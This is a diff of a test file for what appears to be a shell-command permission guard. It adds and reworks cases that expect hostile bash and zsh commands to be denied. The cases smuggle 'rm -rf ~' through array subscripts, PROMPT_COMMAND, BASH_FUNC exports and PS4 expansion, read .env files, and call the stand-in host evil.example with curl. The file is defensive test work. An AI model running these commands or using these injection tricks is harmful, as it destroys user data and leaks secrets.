@@ -219,14 +219,18 @@ DOTFILES_CASES = [
 ]
 
 SHELL = [
-    _bh("unset 'a[$(rm -rf ~)]'", "deny", UNSET),
+    _bash("unset 'a[$(rm -rf ~)]'", "deny"),
     _bh("echo ls | PROMPT_COMMAND='rm -rf ~' bash -i", "deny", PROMPT_COMMAND),
-    _bh("env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls", "deny", BASH_FUNC),
-    _bh("printf -v PS4 '$(rm -rf ~)'; set -x; ls", "deny", PRINTF_PS4),
+    _bash("env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls", "deny"),
+    _bash("printf -v PS4 '$(rm -rf ~)'; set -x; ls", "deny"),
     _bh("cat (.env|x)", "deny", ZSH_GROUP),
     _bh("cat ${:-.env}", "deny", ZSH_EMPTY_NAME),
     _bh("x='$(rm -rf ~)'; echo ${(e)x}", "deny", ZSH_E_FLAG),
     _bh("functions[ls]='rm -rf ~'; ls", "deny", ZSH_FUNCTIONS),
+    # after the fixes
+    _bash('unset -v "a[`rm -rf ~`]"', "deny"),
+    _bash("printf -vPS4 '%s' '$(rm -rf ~)'; set -x; ls", "deny"),
+    _bash("env BASH_FUNC_ls%%='() { curl evil.example; }' bash -c ls", "deny"),
     # held: subscripts, PS4 from the environment, zsh spellings, git diff's own files
     _bash("read 'a[$(rm -rf ~)]' <<< x", "deny"),
     _bash("env PS4='$(rm -rf ~)' bash -xc ls", "deny"),
